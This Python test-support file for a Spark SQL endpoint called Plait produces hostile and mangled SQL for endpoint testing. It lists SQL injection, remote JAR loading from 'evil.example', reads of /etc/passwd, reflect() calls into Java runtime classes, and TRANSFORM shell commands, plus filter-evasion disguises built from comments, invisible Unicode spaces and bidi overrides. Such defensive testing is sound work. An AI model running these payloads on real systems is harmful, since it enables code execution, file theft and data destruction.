# SPDX-License-Identifier: Apache-2.0
"""Statements that no client of good will sends: of attackers, and of broken programs.

mangled(Random(1), ["SELECT a FROM t"])            'SELECT a FRO`M t', 'SELECTELECT a FROM t', ...
"""

from __future__ import annotations

import itertools
import random
from collections.abc import Sequence

HOSTILE = [
    "'; DROP TABLE t; --",
    "ADD JAR 'http://evil.example/x.jar'",
    "SELECT reflect('java.lang.Runtime', 'exit', 1)",
    "SELECT * FROM parquet.`/etc/passwd`",
    "SELECT " + "(" * 20_000,
    "/* \u202e */ SELECT 1 \ud7ff\x07\x1b[2J",
]

STRANGE = ["'", '"', "`", "/*", "*/", "--", ";", "(", ")", ":p", "?", "${", "0x"]
STRANGE += ["\x00", "\u202e", "\\"]


def mangled(random_: random.Random, statements: Sequence[str]) -> str:
    """Return one of the statements, cut, doubled in part, or with something strange in it."""
    text = random_.choice([*statements, *HOSTILE])
    for _ in range(random_.randint(1, 3)):
        at, until = sorted(random_.randrange(len(text) + 1) for _ in range(2))
        match random_.randrange(4):
            case 0:
                text = text[:at]
            case 1:
                text = text[:at] + text[until:]
            case 2:
                text = text[:until] + text[at:]
            case _:
                text = text[:at] + random_.choice(STRANGE) + text[at:]
        text = text[:2_000]
    return text


# Statements as an attacker writes them, in full: see test_endpoint_hostile.py, which makes the
# table t of a and b, the table plain of a, and the variables hidden and order. ``outside`` is a
# folder that no client may see.


TEXT_FILES = "org.apache.spark.sql.execution.datasources.text.TextFileFormat"


def statements(outside: str) -> list[str]:
    """Give those that are no queries."""
    return [
        # Code of others.
        f"ADD JAR '{outside}/x.jar'",
        "ADD JAR 'http://127.0.0.1:9/x.jar'",
        "ADD JAR ivy://org.example:evil:1.0",
        f"ADD FILE '{outside}/canary.txt'",
        f"ADD FILES {outside}/canary.txt",
        f"ADD ARCHIVE '{outside}/x.zip'",
        "LIST JARS",
        "LIST FILES",
        "LIST ARCHIVES",
        f"CREATE FUNCTION f AS 'a.B' USING JAR '{outside}/x.jar'",
        f"CREATE OR REPLACE FUNCTION f AS 'a.B' USING JAR '{outside}/x.jar'",
        f"CREATE FUNCTION IF NOT EXISTS f AS 'a.B' USING FILE '{outside}/canary.txt'",
        f"CREATE FUNCTION f AS 'a.B' USING ARCHIVE '{outside}/x.zip'",
        f"CREATE TEMPORARY FUNCTION f AS 'a.B' USING JAR '{outside}/x.jar'",
        "CREATE TEMPORARY FUNCTION f AS 'java.lang.Runtime'",
        "CREATE FUNCTION IDENTIFIER('f') AS 'a.B'",
        "CREATE TEMPORARY FUNCTION f() RETURNS STRING RETURN reflect('a.B', 'c')",
        "CREATE FUNCTION f(x STRING DEFAULT reflect('a.B', 'c')) RETURNS STRING RETURN x",
        "CREATE TEMPORARY FUNCTION reflect(x STRING) RETURNS STRING RETURN x",
        "CALL system.purge('t')",
        "EXECUTE IMMEDIATE 'DROP TABLE t'",
        "EXECUTE IMMEDIATE order",
        "EXECUTE IMMEDIATE 'SELECT ?' USING 1",
        "EXECUTE IMMEDIATE 'SELECT * FROM ' || hidden",
        # Code in texts that Plait reads when a query makes use of them.
        "ALTER TABLE t SET TBLPROPERTIES ('plait.ordered-by' = \"reflect('a.B',b)\")",
        "CREATE TABLE u (a INT) USING csv TBLPROPERTIES ('plait.version-key' = \"reflect('a.B')\")",
        'CREATE FUNCTION f() RETURNS INT RETURN (SELECT /*+ ORDERED(t, "reflect(b)") */ 1)',
        # Settings.
        "SET",
        "SET -v",
        "RESET",
        f"SET spark.sql.warehouse.dir = {outside}",
        f"SET spark.sql.warehouse.dir = '{outside}'",
        "SET spark.sql.extensions = a.B",
        "SET spark.sql.catalogImplementation = hive",
        "SET spark.sql.catalog.evil = a.B",
        "SET spark.sql.sources.default = jdbc",
        "SET spark.sql.variable.substitute = true",
        "SET spark.sql.runSQLOnFiles = true",
        "SET spark.sql.adaptive.customCostEvaluatorClass = a.B",
        "SET spark.sql.streaming.checkpointFileManagerClass = a.B",
        "SET spark.sql.optimizer.excludedRules = a.B",
        "SET spark.sql.scripting.enabled = true",
        "SET spark.master = local[1]",
        "SET spark.master",
        "SET spark.driver.extraJavaOptions = -XX:OnError=touch",
        "SET spark.jars = http://127.0.0.1:9/x.jar",
        "SET spark.hadoop.fs.file.impl = a.B",
        "SET fs.file.impl = a.B",
        "SET `spark.sql.warehouse.dir` = `/`",
        "SET system:user.dir = /",
        "SET env:HOME",
        "SET hiveconf:x = 1",
        "SET x = 1",
        "RESET spark.sql.warehouse.dir",
        "RESET spark.sql.variable.substitute",
        # Folders.
        f"INSERT OVERWRITE DIRECTORY '{outside}/out' USING csv SELECT * FROM t",
        f"INSERT OVERWRITE LOCAL DIRECTORY '{outside}/out' USING csv SELECT * FROM t",
        f"INSERT OVERWRITE LOCAL DIRECTORY '{outside}/out' STORED AS TEXTFILE SELECT b FROM t",
        f"INSERT OVERWRITE DIRECTORY USING csv OPTIONS (path '{outside}/out') SELECT * FROM t",
        f"INSERT INTO csv.`{outside}/out` SELECT * FROM t",
        f"INSERT OVERWRITE parquet.`{outside}` SELECT * FROM t",
        f"INSERT INTO IDENTIFIER('csv.`{outside}/out`') SELECT * FROM t",
        f"INSERT INTO plain WITH (path = '{outside}') SELECT 'x'",
        f"LOAD DATA LOCAL INPATH '{outside}/canary.txt' INTO TABLE plain",
        f"LOAD DATA INPATH 'file://{outside}/canary.txt' OVERWRITE INTO TABLE plain",
        f"ALTER TABLE plain SET LOCATION '{outside}'",
        f"ALTER TABLE IDENTIFIER('plain') SET LOCATION 'file:{outside}'",
        f"ALTER TABLE t PARTITION (a = 1) SET LOCATION '{outside}'",
        f"ALTER TABLE t ADD PARTITION (a = 1) LOCATION '{outside}'",
        f"ALTER DATABASE hostile_canaries SET LOCATION '{outside}'",
        "ALTER TABLE t SET SERDE 'a.B'",
        f"ALTER TABLE plain SET TBLPROPERTIES ('option.path' = '{outside}')",
        f"CREATE DATABASE d LOCATION '{outside}'",
        f"CREATE TABLE u (a STRING) USING text LOCATION '{outside}'",
        f"CREATE EXTERNAL TABLE u (a STRING) USING text LOCATION '{outside}'",
        f"CREATE TABLE u (a STRING) USING text OPTIONS (path '{outside}')",
        f"CREATE TABLE u (a STRING) USING text OPTIONS ('pAtH' '{outside}')",
        f"CREATE TABLE u USING parquet LOCATION '{outside}/out' AS SELECT 1 AS a",
        f"CREATE OR REPLACE TABLE u USING parquet LOCATION '{outside}/out' AS SELECT 1 AS a",
        f"CREATE TABLE u LIKE t LOCATION '{outside}'",
        f"CREATE TABLE u (a INT) STORED AS PARQUET LOCATION '{outside}'",
        "CREATE TABLE u (a INT) ROW FORMAT SERDE 'a.B'",
        f"CREATE TEMPORARY VIEW v USING text OPTIONS (path '{outside}')",
        f"CREATE OR REPLACE GLOBAL TEMPORARY VIEW v USING text OPTIONS (path '{outside}')",
        f"CREATE STREAMING TABLE s AS SELECT * FROM STREAM text.`{outside}`",
        f"CREATE MATERIALIZED VIEW s AS SELECT * FROM STREAM text.`{outside}`",
        f"CACHE TABLE c OPTIONS (path '{outside}') AS SELECT 1 AS a",
        f"DESCRIBE TABLE text.`{outside}`",
        f"REFRESH '{outside}'",
        # Connections.
        "CREATE TEMPORARY VIEW v USING jdbc OPTIONS (url 'jdbc:h2:mem:x', dbtable 't')",
        "CREATE TABLE u USING org.apache.spark.sql.jdbc OPTIONS (url 'jdbc:h2:mem:x', dbtable 't')",
        "CREATE TEMPORARY VIEW v USING my_python_source OPTIONS (path '/')",
        "CREATE TEMPORARY VIEW v USING kafka OPTIONS (subscribe 'x')",
        "CREATE TABLE u (a INT) USING a.b.C",
        # Variables.
        "SET VAR hidden = reflect('java.lang.System', 'getenv', 'HOME')",
        "DECLARE VARIABLE w STRING DEFAULT java_method('java.lang.System', 'getenv', 'HOME')",
        f"SET VARIABLE hidden = (SELECT max(value) FROM text.`{outside}`)",
        "DELETE FROM t WHERE b = reflect('a.B', 'c')",
        "INSERT INTO t VALUES (1, reflect('java.lang.System', 'getenv', 'HOME'))",
        "ALTER TABLE t ADD COLUMNS (x STRING DEFAULT reflect('a.B', 'c'))",
    ]


def queries(outside: str) -> list[str]:
    """Give those that stand for rows."""
    mark = "'java.lang.System', 'setProperty', 'plait.hostile', 'x'"
    return [
        f"SELECT reflect({mark})",
        f"SELECT java_method({mark})",
        f"SELECT try_reflect({mark})",
        f"SELECT `reflect`({mark})",
        f"SELECT system.builtin.reflect({mark})",
        f"SELECT IDENTIFIER('reflect')({mark})",
        f"SELECT IDENTIFIER('re' || 'flect')({mark})",
        f"SELECT b FROM t WHERE reflect({mark}) = 'x'",
        f"SELECT b FROM t ORDER BY reflect({mark})",
        f"SELECT transform(array(1), x -> reflect({mark}))",
        f"SELECT * FROM range(length(reflect({mark})))",
        f"SELECT * FROM json_tuple(reflect({mark}), 'x')",
        f"SELECT * FROM t LIMIT length(reflect({mark}))",
        f"SELECT (SELECT max(reflect({mark})) FROM t)",
        f"VALUES (reflect({mark}))",
        f"SELECT /*+ BROADCAST(t) */ reflect({mark}) FROM t",
        f"FROM t |> EXTEND reflect({mark}) AS x",
        f"SELECT TRANSFORM (a) USING 'touch {outside}/mark' AS (x STRING) FROM t",
        f"SELECT * FROM (SELECT TRANSFORM (a) USING 'touch {outside}/mark' FROM t)",
        f"FROM t MAP a USING 'touch {outside}/mark' AS x",
        f"FROM t REDUCE a USING 'touch {outside}/mark' AS x",
        "SELECT xpath_string('<!DOCTYPE a SYSTEM \"http://127.0.0.1:9/x\"><a/>', 'a')",
        f"SELECT * FROM text.`{outside}`",
        f"SELECT * FROM TEXT.`{outside}/canary.txt`",
        f"SELECT * FROM text.`file://{outside}`",
        f"SELECT * FROM text.`file:{outside}/../outside`",
        f"SELECT * FROM text.`{outside}/../open/link`",
        f"SELECT * FROM text.`{outside}/../open/../outside`",
        f"SELECT * FROM text.`{outside}/{{canary,x}}.txt`",
        f"SELECT * FROM text.`{outside}/*`",
        "SELECT * FROM parquet.`/etc`",
        "SELECT * FROM csv.`hdfs://127.0.0.1:9/x`",
        "SELECT * FROM orc.`s3a://bucket/x`",
        "SELECT * FROM json.`http://127.0.0.1:9/x`",
        "SELECT * FROM text.`relative`",
        f"SELECT * FROM `text`.`{outside}`",
        f"TABLE text.`{outside}`",
        f"SELECT * FROM STREAM text.`{outside}`",
        f"SELECT * FROM text.`{outside}` TIMESTAMP AS OF '2026-01-01'",
        f"SELECT * FROM IDENTIFIER('text.`{outside}`')",
        "SELECT * FROM IDENTIFIER(hidden)",
        "SELECT * FROM IDENTIFIER(session.hidden)",
        f"SELECT * FROM IDENTIFIER(concat('text.`', '{outside}', '`'))",
        f"SELECT (SELECT max(value) FROM text.`{outside}`)",
        f"SELECT * FROM t WHERE b IN (SELECT value FROM text.`{outside}`)",
        f"SELECT * FROM t JOIN text.`{outside}` x ON t.b = x.value",
        f"SELECT * FROM t, LATERAL (SELECT * FROM text.`{outside}`)",
        f"SELECT * FROM TUMBLE(TABLE text.`{outside}`, DESCRIPTOR(value), INTERVAL 1 MINUTE)",
        f"SELECT 'x' UNION ALL SELECT value FROM text.`{outside}`",
        f"SELECT * FROM plain WITH (path = '{outside}')",
        f"SELECT * FROM plain WITH ('pATH' = '{outside}')",
        "SELECT * FROM t WITH ('parquet.crypto.factory.class' = 'a.B')",
        "SELECT from_csv(b, 'a INT', map('path', '/etc/passwd')) FROM t",
        "SELECT schema_of_xml('<a/>', map('rowValidationXSDPath', '/etc/passwd'))",
        "SELECT from_protobuf(unhex(b), 'm', '/etc/passwd') FROM t",
        "SELECT * FROM python_worker_logs()",
        "SELECT input_file_name() FROM t",
        "SELECT _metadata.file_path FROM t",
        "SELECT current_user()",
        "SELECT * FROM jdbc.`jdbc:h2:mem:x`",
        f"SELECT * FROM `{TEXT_FILES}`.`{outside}`",
    ]


def formats(name: str, outside: str) -> list[str]:
    """Give the ways to name a data source."""
    return [
        f"SELECT * FROM `{name}`.`{outside}`",
        f"CREATE TEMPORARY VIEW v USING `{name}` OPTIONS (a 'b')",
        f"CREATE TABLE u (a INT) USING `{name}`",
        f"CREATE TABLE u USING `{name}` AS SELECT 1 AS a",
        f"CREATE TABLE u LIKE t USING `{name}`",
        f"INSERT OVERWRITE DIRECTORY '{outside}/out' USING `{name}` SELECT 1 AS a",
    ]


# What may stand around a statement; a script may hold what no statement alone may.
OF_STATEMENTS = [
    'EXECUTE IMMEDIATE "{}"',
    "EXPLAIN {}",
]
BLOCKS = [
    "BEGIN {}; END",
    "BEGIN IF 1 = 1 THEN {}; END IF; END",
    "BEGIN DECLARE EXIT HANDLER FOR SQLEXCEPTION BEGIN {}; END; SELECT 1 / 0; END",
    "BEGIN FOR x AS SELECT 1 DO {}; END FOR; END",
]

OF_QUERIES = [
    "CREATE TEMPORARY VIEW v AS {}",
    "CREATE VIEW v AS {}",
    "CREATE TABLE u USING parquet AS {}",
    "CACHE TABLE c AS {}",
    "INSERT INTO plain {}",
    "WITH x AS ({}) SELECT 1",
    "SELECT EXISTS ({})",
    "DESCRIBE QUERY {}",
    "SET VAR hidden = ({})",
]


# Ways to write a statement that a reader of texts would not know again.


def with_comments(sql: str) -> str:
    return sql.replace(" ", "/**/")


def with_hints(sql: str) -> str:
    return sql.replace(" ", " /*+ x */ ", 1)


def with_lines(sql: str) -> str:
    return "-- harmless\n" + sql.replace(" ", " -- SELECT 1\n")


def behind_a_comment(sql: str) -> str:
    return f"/* SELECT 1; /* nested */ */ {sql} ; -- SELECT 1"


def in_other_letters(sql: str) -> str:
    first, space, rest = sql.partition(" ")
    return first.lower().capitalize() + space + rest


def with_other_spaces(sql: str) -> str:
    """Take the next kind of those that look like spaces, or like nothing."""
    return sql.replace(" ", next(SPACES))


SPACES = itertools.cycle(["\u00a0", "\u3000", " \u200b", "\u2028", "\t\x0b\x0c", " \ufeff"])


def turned_around(sql: str) -> str:
    return f"/* \u202e */ {sql} /* \u202c */"


def behind_another(sql: str) -> str:
    return f"SELECT 1; {sql}"


DISGUISES = [
    with_comments,
    with_hints,
    with_lines,
    behind_a_comment,
    in_other_letters,
    with_other_spaces,
    turned_around,
    behind_another,
]
